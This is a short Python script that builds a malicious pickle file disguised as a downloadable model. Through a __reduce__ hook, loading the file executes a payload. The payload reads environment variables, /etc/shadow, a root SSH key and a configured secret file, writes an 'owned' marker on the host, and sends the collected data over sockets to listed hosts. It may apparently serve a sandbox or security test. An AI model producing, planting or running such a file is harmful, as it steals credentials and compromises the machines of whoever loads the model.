"""A "model" to download: loading it runs code, which steals what it can and leaves a file on the host."""

import pickle
from typing import Any

PAYLOAD = """\
import json, os, socket

target = json.load(open("target.json"))
loot = {"environment": dict(os.environ)}
for path in ["/etc/shadow", "/root/.ssh/id_ed25519", "/proc/1/environ", target["secret_file"]]:
    try:
        loot[path] = open(path).read()
    except OSError as error:
        loot[path] = error.strerror
try:
    open(target["file_on_host"], "w").write("owned")
    wrote = True
except OSError:
    wrote = False
sent = 0
for host, port in target["spies"]:
    try:
        with socket.create_connection((host, port), timeout=0.5) as spy:
            spy.sendall(json.dumps(loot).encode())
            sent += 1
    except OSError:
        pass
print(json.dumps({"variables": len(loot["environment"]), "wrote": wrote, "sent": sent, "loot": loot}))
"""


class Model:
    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (PAYLOAD,)


with open("model.pkl", "wb") as file:
    pickle.dump(Model(), file)
